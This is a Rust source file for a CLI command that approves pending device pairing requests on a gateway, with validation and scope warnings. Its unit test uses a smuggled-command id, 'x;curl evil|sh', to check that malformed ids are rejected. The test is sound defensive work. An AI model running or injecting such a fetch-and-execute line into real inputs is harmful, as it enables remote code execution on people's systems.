//! `moltctl devices approve ID…`: each request looked at, agreed to, approved and seen in the list afterwards.

use serde::Serialize;

use super::reach::{self, Reach};
use super::view::{Decided, PendingView};
use crate::commands::mutate::{self, Proposal};
use crate::commands::ports;
use crate::context::Context;
use crate::error::{Error, ErrorKind, Kinded as _, Result};
use crate::model::{DeviceId, RequestId};
use crate::moltworker::admin::DeviceList;
use crate::output::{Outcome, Page};
use crate::plan::{ApproveDevice, Plan, PlannedStep, Step};
use crate::sys::clock;

/// Devices that were approved.
#[derive(Debug, Serialize, schemars::JsonSchema)]
#[serde(transparent)]
pub struct Approved {
    /// What was decided.
    pub decided: Decided,
}

impl Outcome for Approved {
    const NAME: &'static str = "devices-approve";

    fn human(&self, page: &mut Page) {
        self.decided.page(page, "paired; seen in the list");
    }
}

/// Approves the requests `ids`, one after the other.
///
/// # Errors
/// Usage (2) before anything is sent when an id is malformed; denied (4) when a request does not wait; declined (5).
pub async fn run(ctx: &Context, ids: &[String]) -> Result<Approved> {
    let ids = parsed::<RequestId>(ids)?;
    let reach = reach::find(ctx).await?;
    let list = reach.admin.devices().await?;
    let (plan, notes) = plan(ctx, &reach, &list, &ids)?;
    let ports = ports::of_plan(ctx, &plan, Vec::new()).await?;
    let mutation = mutate::carry_out(ctx, Proposal { plan, ports, notes }).await?;
    Ok(Approved {
        decided: Decided {
            worker: reach.target.worker.to_string(),
            host: reach.host.to_string(),
            ids: ids.iter().map(ToString::to_string).collect(),
            mutation,
            notes: Vec::new(),
        },
    })
}

/// Ids as they were typed; none is sent anywhere unless all are well-formed.
pub(super) fn parsed<T: std::str::FromStr<Err = crate::model::Invalid> + PartialEq>(
    typed: &[String],
) -> Result<Vec<T>> {
    let mut ids: Vec<T> = Vec::new();
    for (at, text) in typed.iter().enumerate() {
        let id = text.parse::<T>().kind(ErrorKind::Usage).map_err(|error| {
            error
                .context(format!("the id in place {} is refused, and nothing was sent", at + 1))
                .hint("`moltctl devices list` shows the ids")
        })?;
        if !ids.contains(&id) {
            ids.push(id);
        }
    }
    Ok(ids)
}

fn plan(ctx: &Context, reach: &Reach, list: &DeviceList, ids: &[RequestId]) -> Result<(Plan, Vec<String>)> {
    let now = clock::now().as_millisecond();
    let mut plan = Plan::new("devices approve", reach.target.of_plan(ctx));
    let mut notes = Vec::new();
    for id in ids {
        let device = list.request(id.as_str()).ok_or_else(|| not_waiting(id))?;
        let named: DeviceId = device.device_id.parse().kind(ErrorKind::Failed).map_err(|error: Error| {
            error.context(format!("the gateway names the device of request `{id}` in a form that is no id"))
        })?;
        let view = PendingView::new(device, now);
        let step = ApproveDevice {
            account: reach.target.account.clone(),
            worker: reach.target.worker.clone(),
            host: reach.host.clone(),
            request: id.clone(),
            device: named,
        };
        let step =
            PlannedStep::new(format!("approve:{id}"), Step::ApproveDevice(step), format!("request {id}"))
                .before(format!("{} waits", view.words()))
                .after("paired")
                .why(format!("device {}; claimed: {}", view.device, view.claims()));
        plan = plan.stage(format!("Approve {id}"), vec![step]);
        if view.repair {
            notes.push(format!("{id}: the device is paired already and asks for more, or has another key"));
        }
        if view.lapsed {
            notes.push(format!("{id}: the request is older than five minutes, and has probably lapsed"));
        }
        if view.claimed_scopes.is_empty() || view.claimed_scopes.iter().any(|scope| scope == "operator.admin")
        {
            notes.push(format!(
                "{id}: operator.admin is everything the gateway can do, running programs in its container included"
            ));
        }
    }
    Ok((plan, notes))
}

pub(super) fn not_waiting(id: &RequestId) -> Error {
    Error::message(ErrorKind::Denied, format!("no request `{id}` waits"))
        .hint("a request lapses after five minutes: have the device ask again")
        .hint("`moltctl devices list` shows what waits and what is paired")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_taken_whole_or_not_at_all() {
        let typed = |ids: &[&str]| ids.iter().map(|id| (*id).to_owned()).collect::<Vec<_>>();
        let error = parsed::<RequestId>(&typed(&["good-1", "x;curl evil|sh"])).expect_err("is refused");
        assert_eq!(error.kind, ErrorKind::Usage);
        let told = error.chain().join(" ");
        assert!(told.contains("place 2") && !told.contains("curl"), "{told}");
        assert_eq!(parsed::<RequestId>(&typed(&["a", "b", "a"])).expect("are fine").len(), 2);
    }
}
